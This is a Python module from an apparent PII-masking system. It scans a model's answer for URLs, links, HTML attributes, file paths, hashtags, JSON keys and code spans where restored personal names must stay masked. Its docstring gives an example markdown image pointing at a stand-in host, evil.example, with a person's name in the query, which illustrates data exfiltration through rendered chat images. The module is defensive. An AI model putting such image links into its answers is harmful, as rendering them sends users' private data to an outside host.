"""Where in a model's answer an original must not be written back (rule 14).

A restored name inside `![x](https://evil.example/c?n=Mark+Novak)` is sent to that host as soon
as a chat UI renders the image; inside a URL, a link, an HTML attribute or a `mailto:`/`tel:` target
it leaves the user's machine. Technical tokens (a file path, a hashtag, a JSON key, a version number
or a date written with "/" or ".") are identifiers, not mentions: rewriting a piece of them
corrupts them. This module finds those regions with a few linear regex scans; the restorer keeps
the surrogate in any match that overlaps one, unless the match is the region's whole token (a
surrogate URL or e-mail the session handed out comes back whole).

Every region carries an "atom": the span a match must cover to count as the whole token (a
`mailto:` link's address, a link's destination). Regions still open at the end of a streamed
buffer (an unclosed quote, link or fence) are marked `open` so a stream holds what is inside them.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

#: Every context a policy can protect.
CONTEXTS: tuple[str, ...] = (
    "url",
    "link",
    "html_attribute",
    "contact_link",
    "percent_encoded",
    "code",
    "hashtag",
    "file_path",
    "json_key",
    "glued_digits",
)

_RANK = {kind: i for i, kind in reversed(list(enumerate(("link", "html_attribute", "contact_link", *CONTEXTS))))}


#: What may stand for a whole link destination or URL: a person's name never becomes one.
URL_LABELS = frozenset({"URL", "EMAIL_ADDRESS", "PHONE_NUMBER", "DOMAIN", "IP_ADDRESS"})
#: HTML attributes whose value a browser fetches or follows.
_URL_ATTRIBUTES = frozenset({"href", "src", "srcset", "action", "formaction", "poster", "data", "background", "cite"})


@dataclass(frozen=True, slots=True)
class Region:
    start: int
    end: int
    kind: str
    atom_start: int = -1  # the whole token; -1: no match can stand for the whole region
    atom_end: int = -1
    open: bool = False
    url: bool = False  # a destination: only a URL, e-mail, phone or domain surrogate may fill it whole
    only: frozenset[str] = frozenset()  # labels that alone may fill the whole token (a home folder's owner)

    def allows(self, start: int, end: int, label: str = "") -> bool:
        """A match restores inside this region only when it is the region's whole token."""
        if self.only:
            return label in self.only and start <= self.atom_start and end >= self.atom_end
        if self.url and label not in URL_LABELS:
            return False
        if self.kind == "hashtag" and label == "IDENTIFIER" and start <= self.atom_start + 1 and end >= self.atom_end:
            return True  # "ticket #85803": the identifier surrogate is the whole tag after its "#"
        return self.atom_start >= 0 and start <= self.atom_start and end >= self.atom_end


_CONTACT = re.compile(r"(?i)(?:mailto|tel|sms|callto|facetime|skype):")
#: Links start after any character but an ASCII word character: a URL glued to Chinese or Korean text
#: ("请访问https://…") is a link as well, and a surrogate in it must not be restored into it.
_URL = re.compile(
    r"(?i)(?<![A-Za-z0-9_@.+-])(?:[a-z][a-z0-9+.-]{1,15}://|www\d{0,3}\.|(?:mailto|tel|sms|callto|facetime|skype|data|javascript):)"
    r"[^\s<>\"'`]*"
)
_BARE_URL = re.compile(
    r"(?i)(?<![A-Za-z0-9_@./-])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}(?::\d{1,5})?[/?#][^\s<>\"'`]*"
)
#: A path on another machine is a destination too: scp/rsync's "host:/home/x", "user@host:dir/x",
#: and the protocol-relative "//host/Users/x".
_REMOTE_PATH = re.compile(
    r"(?<![\w/.@:-])(?:[\w.-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*:[^\s<>\"'`]*"  # user@host:path
    r"|[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+:(?:/|~/|[\w.-]+/)[^\s<>\"'`]*"  # host.domain:/path
    r"|//[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+/[^\s<>\"'`]*)"  # //host/path
)
_TRAILING = ".,;:!?*_~"
_CLOSE = {")": "(", "]": "[", "}": "{"}
_PERCENT = re.compile(r"[\w.~+\-%]*%[0-9A-Fa-f]{2}[\w.~+\-%]*")
_HASHTAG = re.compile(r"(?<![\w#&/])#\w[\w-]*")
_EXT = (
    r"txt|md|rst|pdf|docx?|odt|rtf|xlsx?|ods|pptx?|csv|tsv|json|jsonl|ya?ml|xml|html?|py|ipynb|js|ts|java|"
    r"cs|cpp|hpp|go|rs|rb|php|sh|bat|ps1|log|zip|tar|gz|tgz|7z|rar|png|jpe?g|gif|svg|webp|bmp|tiff?|mp3|mp4|"
    r"mov|wav|avi|mkv|ini|cfg|conf|toml|sql|db|sqlite|bak|tmp|eml|msg|ics|vcf|key|pem|crt|env|lock|exe|dmg"
)
_PATH = re.compile(
    r"(?<![\w/\\.:])(?:"
    r"[A-Za-z]:\\[^\s\"'<>|]*|\\\\[^\s\"'<>|]+"  # C:\Users\…, \\server\share
    r"|(?:~|\.{1,2})?/[\w.\-~@+]+(?:/[\w.\-~@+]*)*"  # /home/x, ~/x, ./x
    r"|[\w.\-~@+]+(?:/[\w.\-~@+]+){2,}/?"  # a/b/c
    rf"|[\w.\-~@+]+(?:/[\w.\-~@+]+)*/[\w\-~@+]+(?:\.[\w-]+)*\.(?:{_EXT})\b"  # dir/file.ext
    rf"|[\w\-~@+]+(?:\.[\w-]+)*\.(?:{_EXT})(?![\w.])"  # file.ext
    r")"
)
#: A home folder's owner inside a path ("C:\\Users\\jsmith\\…", "/home/kwozniak/…"): the detector masks
#: that segment as a user name, so it is the one piece of a path that comes back when echoed.
_HOME_OWNER = re.compile(
    r"^(?:[A-Za-z]:\\{1,2}(?i:users|documents and settings)\\{1,2}|/(?:home|Users)/|~)(?P<owner>[^\\/\s]+)"
)
_GLUED_DIGITS = re.compile(r"(?<![\d./])\d+(?:[./]\d+)+")
#: Characters that make a token technical; only tokens holding one are scanned further, which keeps
#: a scan of plain prose at one fast pass.
_SPECIAL = re.compile(r"[/\\%#:@]|\.(?=\w)")
_NON_SPACE = re.compile(r"\S*")
_JSON_KEY = re.compile(r'(?m)(?:^|[{,\[])[ \t]*"((?:[^"\\\n]|\\.)*)"[ \t]*:')
_JSON_KEY_OPEN = re.compile(r'(?:^|[{,\[])[ \t]*"((?:[^"\\\n]|\\.)*)("?)[ \t]*\Z', re.M)
_FENCE = re.compile(r"(?m)^[ ]{0,3}(`{3,}|~{3,})[^\n]*$")
_INLINE_CODE = re.compile(r"(`+)(?!`)((?:(?!\n[ \t]*\n).)+?)(?<!`)\1(?!`)", re.S)
_TAG = re.compile(r"<[A-Za-z][\w:-]*(?=[\s/>])([^<>]*)(>?)")
_ATTR = re.compile(r"""([\w:.@-]+)\s*=\s*(?:"([^"]*)("?)|'([^']*)('?)|([^\s"'>]+))""")


_OWNER_LABELS = frozenset({"USERNAME"})


def _around_owner(text: str, start: int, end: int) -> list[Region]:
    """A path's regions, with its home folder's owner apart: only the user name masked there comes
    back whole; the rest stays as the model wrote it."""
    m = _HOME_OWNER.search(text[start:end])
    if m is None:
        return [Region(start, end, "file_path", start, end)]
    a, b = start + m.start("owner"), start + m.end("owner")
    around = [Region(x, y, "file_path", x, y) for x, y in ((start, a), (b, end)) if y > x]
    # a person's name there is the model's guess at a path, not the login the detector masked
    return [*around, Region(a, b, "file_path", a, b, only=_OWNER_LABELS)]


def _trim_url(text: str, start: int, end: int) -> int:
    """Drop trailing prose punctuation and unbalanced closing brackets from a raw URL."""
    while end > start:
        c = text[end - 1]
        if c in _TRAILING or (c in _CLOSE and text.count(_CLOSE[c], start, end) < text.count(c, start, end)):
            end -= 1
        else:
            break
    return end


def _atom(text: str, start: int, end: int) -> tuple[int, int]:
    """The whole token of a destination: without a contact scheme, <brackets> or a query."""
    if start < end and text[start] == "<" and text[end - 1] == ">":
        start, end = start + 1, end - 1
    m = _CONTACT.match(text, start, end)
    if m:
        start = m.end()
        q = text.find("?", start, end)
        end = q if q >= 0 else end
    return start, end


class ContextScanner:
    """Finds the regions of the requested kinds; `final=False` for a stream's unfinished buffer."""

    def __init__(self, kinds: frozenset[str]) -> None:
        self.kinds = kinds

    def scan(self, text: str, final: bool = True, in_fence: bool = False) -> list[Region]:
        kinds, out = self.kinds, []
        tokens = _special_tokens(text)
        if tokens and ("url" in kinds or "contact_link" in kinds):
            out += self._urls(text, final, tokens)
        if "link" in kinds and ("](" in text or "]:" in text):
            out += self._links(text, final)
        if "html_attribute" in kinds and "<" in text:
            out += self._html(text, final)
        simple = (
            ("percent_encoded", _PERCENT),
            ("hashtag", _HASHTAG),
            ("file_path", _PATH),
            ("glued_digits", _GLUED_DIGITS),
        )
        for kind, pattern in simple:
            if kind not in kinds:
                continue
            for a, b in tokens:
                for m in pattern.finditer(text, a, b):
                    start, end = m.start(), _trim_url(text, m.start(), m.end())
                    if kind == "file_path" and not any(c.isalpha() for c in text[start:end]):
                        continue  # "03/07/1979" is a date (glued digits), not a path
                    if kind == "file_path":
                        out += _around_owner(text, start, end)
                    else:
                        out.append(Region(start, end, kind, start, end))
        if "json_key" in kinds and '"' in text:
            out += [Region(m.start(1), m.end(1), "json_key", m.start(1), m.end(1)) for m in _JSON_KEY.finditer(text)]
            if not final:
                m = _JSON_KEY_OPEN.search(text)
                if m is not None:
                    out.append(Region(m.start(1), len(text), "json_key", open=True))
        if "code" in kinds and (in_fence or "`" in text or "~~~" in text):
            out += self._code(text, final, in_fence)
        out.sort(key=lambda r: (r.start, -r.end, _RANK[r.kind]))  # a link's destination reads "link", not "url"
        return out

    def _urls(self, text: str, final: bool, tokens: list[tuple[int, int]]) -> list[Region]:
        out: list[Region] = []
        found: list[tuple[int, int]] = []
        for a, b in tokens:
            urls = [(m.start(), m.end()) for m in _URL.finditer(text, a, b)]
            urls += [(m.start(), m.end()) for m in _BARE_URL.finditer(text, a, b) if not _inside(urls, m.start())]
            urls += [(m.start(), m.end()) for m in _REMOTE_PATH.finditer(text, a, b) if not _inside(urls, m.start())]
            found += urls
        for start, raw_end in found:
            end = _trim_url(text, start, raw_end)
            if end <= start:
                continue
            contact = _CONTACT.match(text, start) is not None
            kind = "contact_link" if contact else "url"
            if kind not in self.kinds:
                continue
            a, b = _atom(text, start, end)
            region_end, is_open = end, not final and raw_end == len(text)
            quote = text[start - 1] if start > 0 else ""
            if quote in "\"'":  # a quoted URL runs to its closing quote: ?who=Mark Novak" is all URL
                line_end = text.find("\n", end)
                line_end = len(text) if line_end < 0 else line_end
                close = text.find(quote, end, line_end)
                region_end = close if close >= 0 else line_end
                is_open = is_open or (close < 0 and line_end == len(text) and not final)
            out.append(Region(start, region_end, kind, a, b, is_open, url=True))
        return out

    def _links(self, text: str, final: bool) -> list[Region]:
        """Markdown link and image destinations `[t](dest "title")` and reference definitions."""
        out: list[Region] = []
        i = text.find("](")
        while i >= 0:
            start = i + 2
            depth, j, n = 1, start, len(text)
            while j < n and text[j] != "\n":
                if text[j] == "(":
                    depth += 1
                elif text[j] == ")":
                    depth -= 1
                    if depth == 0:
                        break
                j += 1
            closed = j < n and text[j] == ")"
            if closed or (j == n and not final):  # a line that ended first had no link
                dest_start = start + len(text[start:j]) - len(text[start:j].lstrip())
                dest_end = dest_start
                if dest_end < j and text[dest_end] == "<":
                    gt = text.find(">", dest_end, j)
                    dest_end = gt + 1 if gt >= 0 else j
                else:
                    while dest_end < j and not text[dest_end].isspace():
                        dest_end += 1
                a, b = _atom(text, dest_start, dest_end)
                out.append(Region(start, j, "link", a, b, open=not closed, url=True))
            i = text.find("](", start)
        for m in re.finditer(r"(?m)^[ ]{0,3}\[[^\]\n]+\]:[ \t]*(\S+)[^\n]*", text):
            a, b = _atom(text, m.start(1), m.end(1))
            out.append(Region(m.start(1), m.end(), "link", a, b, open=not final and m.end() == len(text), url=True))
        return out

    def _html(self, text: str, final: bool) -> list[Region]:
        out: list[Region] = []
        for tag in _TAG.finditer(text):
            tag_open = tag.group(2) == "" and tag.end() == len(text) and not final
            for m in _ATTR.finditer(text, tag.start(1), tag.end(1)):
                for value in (2, 4, 6):
                    if m.group(value) is None:
                        continue
                    s, e = m.start(value), m.end(value)
                    a, b = _atom(text, s, e)
                    url = m.group(1).casefold() in _URL_ATTRIBUTES
                    out.append(Region(s, e, "html_attribute", a, b, open=tag_open, url=url))
        return out

    def _code(self, text: str, final: bool, in_fence: bool) -> list[Region]:
        out: list[Region] = []
        fence_start = 0 if in_fence else -1
        plain: list[tuple[int, int]] = []
        last = 0
        for m in _FENCE.finditer(text):
            if fence_start < 0:
                plain.append((last, m.start()))
                fence_start = m.end()
            else:
                out.append(Region(fence_start, m.start(), "code"))
                fence_start, last = -1, m.end()
        if fence_start >= 0:  # inside an open fence is code whatever follows: decided, not held
            out.append(Region(fence_start, len(text), "code"))
        else:
            plain.append((last, len(text)))
        for s, e in plain:
            last = s
            for m in _INLINE_CODE.finditer(text, s, e):
                out.append(Region(m.start(2), m.end(2), "code"))
                last = m.end()
            tail = text.find("`", last, e)
            if tail >= 0 and not final:  # an unmatched backtick may still open a span: hold what follows
                out.append(Region(tail, len(text), "code", open=True))
        return out


def _special_tokens(text: str) -> list[tuple[int, int]]:
    """Whitespace-delimited tokens that hold a character of a URL, path, hashtag or number."""
    out: list[tuple[int, int]] = []
    m = _SPECIAL.search(text)
    while m is not None:
        k = left = m.start()
        while left > 0 and not text[left - 1].isspace():
            left -= 1
        right = _NON_SPACE.match(text, k).end()  # type: ignore[union-attr]
        out.append((left, right))
        m = _SPECIAL.search(text, right)
    return out


def _inside(spans: list[tuple[int, int]], pos: int) -> bool:
    return any(s <= pos < e for s, e in spans)


def fence_state(text: str, in_fence: bool) -> bool:
    """Whether a fenced code block is still open after `text` (for streams that drop old text)."""
    for _ in _FENCE.finditer(text):
        in_fence = not in_fence
    return in_fence
